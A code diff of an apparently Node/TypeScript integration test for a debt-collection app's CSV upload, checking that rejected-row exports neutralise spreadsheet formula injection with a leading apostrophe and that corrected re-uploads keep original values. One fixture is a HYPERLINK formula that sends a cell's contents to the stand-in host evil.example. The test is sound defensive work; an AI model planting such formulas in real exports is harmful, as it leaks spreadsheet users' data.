@@ -5,7 +5,8 @@ import os from 'node:os';
 import path from 'node:path';
 import { and, eq, sql } from 'drizzle-orm';
 import { closeDb, db, sqlClient } from '../../src/lib/server/db/client';
-import { auditLog, debts, importChunks, imports, staff } from '../../src/lib/server/db/schema';
+import { auditLog, debtors, debts, importChunks, imports, staff } from '../../src/lib/server/db/schema';
+import { formatDocument, generateCpf, normalizeDocument } from '../../src/lib/format/document';
 import * as uploads from '../../src/lib/server/uploads';
 import * as jobs from '../../src/lib/server/uploads/jobs';
 import type { StaffRole } from '../../src/lib/server/db/schema';
@@ -59,6 +60,35 @@ async function drain(): Promise<void> {
 
 async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
 	return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
+}
+
+/** The cells of a `;` CSV exactly as a spreadsheet receives them: RFC 4180 quotes undone, nothing else. */
+function cellsOf(body: string): string[][] {
+	const rows: string[][] = [];
+	let row: string[] = [];
+	let cell = '';
+	let quoted = false;
+	const s = body.replace(/^\uFEFF/, '');
+	for (let i = 0; i < s.length; i++) {
+		const c = s[i];
+		if (quoted && c === '"' && s[i + 1] === '"') {
+			cell += '"';
+			i++;
+		} else if (c === '"') {
+			quoted = !quoted;
+		} else if (!quoted && c === ';') {
+			row.push(cell);
+			cell = '';
+		} else if (!quoted && c === '\r' && s[i + 1] === '\n') {
+			rows.push([...row, cell]);
+			row = [];
+			cell = '';
+			i++;
+		} else {
+			cell += c;
+		}
+	}
+	return rows;
 }
 
 let A: Awaited<ReturnType<typeof factory.creditor>>;
@@ -151,6 +181,50 @@ describe('portfolio upload', () => {
 		expect(left.length).toBeGreaterThan(0);
 		expect(left.every((c) => c.seq < 0)).toBe(true);
 		expect(await uploads.rejectedCsv(db(), managerA, id)).not.toBeNull();
+	});
+
+	it('the rejected rows never open as formulas in a spreadsheet, and the fixed file imports the values as they were sent', async () => {
+		const formula = '=HYPERLINK("http://evil.example/?d="&A2;"Clique aqui")';
+		const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
+		const maria = formatDocument(generateCpf(Math.random));
+		const jose = formatDocument(generateCpf(Math.random));
+		const file = csv([
+			line(A.cnpj, { debt_id: 'INJ-1', debtor_document: maria, debtor_name: quoted(formula), debtor_phone: '+55 11 98765-4321', debtor_state: 'XX' }),
+			line(A.cnpj, { debt_id: 'INJ-2', debtor_document: jose, debtor_name: '@SOMA(A1:A9)', debtor_phone: '', debtor_email: 'jose@example.com', principal: '-5,00' })
+		]);
+		const id = await upload(managerA, A.id, 'carteira-formulas.csv', file);
+		await drain();
+		expect(await uploads.get(db(), managerA, id)).toMatchObject({ status: 'validated', invalidRows: 2, validRows: 0 });
+
+		const body = await text((await uploads.rejectedCsv(db(), managerA, id))!.body);
+		const rows = cellsOf(body);
+		expect(rows).toHaveLength(3);
+		const at = (row: string[], column: string) => row[COLUMNS.indexOf(column as (typeof COLUMNS)[number])];
+		// Each cell that would start a formula starts with ' instead: the spreadsheet shows it as text.
+		expect(at(rows[1], 'debtor_name')).toBe(`'${formula}`);
+		expect(at(rows[1], 'debtor_phone')).toBe("'+55 11 98765-4321");
+		expect(at(rows[2], 'debtor_name')).toBe("'@SOMA(A1:A9)");
+		expect(at(rows[2], 'principal')).toBe("'-5,00");
+		for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+		// The operator fixes the state in the rejected file and sends it back as it is, `motivo` column and all.
+		const fixed = Buffer.from(body.replace(';XX;', ';SP;'), 'utf8');
+		const again = await upload(managerA, A.id, 'rejeitadas-carteira-formulas.csv', fixed);
+		await drain();
+		const report = (await uploads.get(db(), managerA, again))!;
+		expect(report).toMatchObject({ status: 'validated', validRows: 1, invalidRows: 1 });
+		// The still-wrong principal is quoted back as it was sent, not with the ' of the file.
+		expect(report.errors.map((e) => e.message)).toEqual(['Valor inválido: "-5,00". Use 1.234,56 ou 1234.56, sem sinal negativo.']);
+		const secondRejected = cellsOf(await text((await uploads.rejectedCsv(db(), managerA, again))!.body));
+		expect(secondRejected[1].slice(0, COLUMNS.length)).toEqual(rows[2].slice(0, COLUMNS.length));
+
+		expect((await db().transaction((tx) => uploads.requestCommit(tx, managerA, again, { skipInvalid: true }))).ok).toBe(true);
+		await drain();
+		const [stored] = await db()
+			.select({ name: debtors.name, phone: debtors.phone, state: debtors.state })
+			.from(debtors)
+			.where(and(eq(debtors.agencyId, A.agencyId), eq(debtors.document, normalizeDocument(maria))));
+		expect(stored).toEqual({ name: formula, phone: '+5511987654321', state: 'SP' });
 	});
 
 	it('a clean file commits without the checkbox, and the same file again changes nothing', async () => {
